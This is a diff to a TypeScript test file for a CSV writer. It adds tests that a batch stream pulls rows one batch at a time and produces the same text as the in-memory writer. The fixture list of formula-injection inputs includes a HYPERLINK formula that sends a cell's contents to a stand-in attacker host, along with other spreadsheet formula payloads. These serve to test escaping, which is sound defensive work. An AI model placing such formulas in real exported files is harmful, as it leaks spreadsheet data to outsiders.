@@ -1,6 +1,6 @@
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
-import { csvStream, writeCsv } from "@/lib/csv/write-csv";
+import { csvBatchStream, csvStream, writeCsv } from "@/lib/csv/write-csv";
 
 const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1", "\r=1", "  =1+1", " @cmd"];
 
@@ -29,5 +29,29 @@ describe("writeCsv", () => {
     let out = "";
     for await (const chunk of stream) out += String(chunk);
     expect(out).toBe(writeCsv("spreadsheet", ["value"], FORMULAS.map((f) => [f])));
+  });
+
+  it("a batch stream pulls one batch at a time and writes the same text as the in-memory writer", async () => {
+    const batches = [FORMULAS.slice(0, 3).map((f) => [f, 1]), [], FORMULAS.slice(3).map((f) => [f, 2])];
+    let pulled = 0;
+    async function* source() {
+      for (const b of batches) {
+        pulled++;
+        yield b;
+      }
+    }
+    const reader = csvBatchStream("spreadsheet", ["value", "n"], source()).getReader();
+    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
+    const first = await reader.read();
+    expect(pulled).toBeLessThanOrEqual(2);
+    let out = decoder.decode(first.value, { stream: true });
+    for (let r = await reader.read(); !r.done; r = await reader.read()) out += decoder.decode(r.value, { stream: true });
+    expect(out).toBe(writeCsv("spreadsheet", ["value", "n"], batches.flat()));
+    expect(pulled).toBe(3);
+  });
+
+  it("a batch stream with no rows is the header alone", async () => {
+    const text = await new Response(csvBatchStream("machine", ["value"], (async function* () {})())).text();
+    expect(text).toBe(writeCsv("machine", ["value"], []));
   });
 });
